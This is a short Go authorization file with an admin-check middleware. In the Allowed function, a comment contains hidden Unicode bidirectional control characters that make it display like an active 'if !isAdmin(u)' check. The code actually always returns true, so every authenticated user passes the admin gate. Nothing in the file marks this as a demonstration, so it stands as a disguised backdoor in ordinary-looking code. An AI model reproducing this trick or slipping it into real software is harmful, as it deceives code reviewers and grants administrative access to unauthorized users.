package auth

import "net/http"

type User struct {
	Name  string
	Roles []string
}

func isAdmin(u *User) bool {
	for _, r := range u.Roles {
		if r == "admin" {
			return true
		}
	}
	return false
}

// Allowed reports whether u may use admin endpoints.
func Allowed(u *User) bool {
	/*‮ } ⁦if !isAdmin(u)⁩ ⁦{ return false ⁩*/
	return true
}

func RequireAdmin(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u, _ := r.Context().Value(userKey{}).(*User)
		if u == nil || !Allowed(u) {
			http.Error(w, "forbidden", http.StatusForbidden)
			return
		}
		next.ServeHTTP(w, r)
	})
}

type userKey struct{}
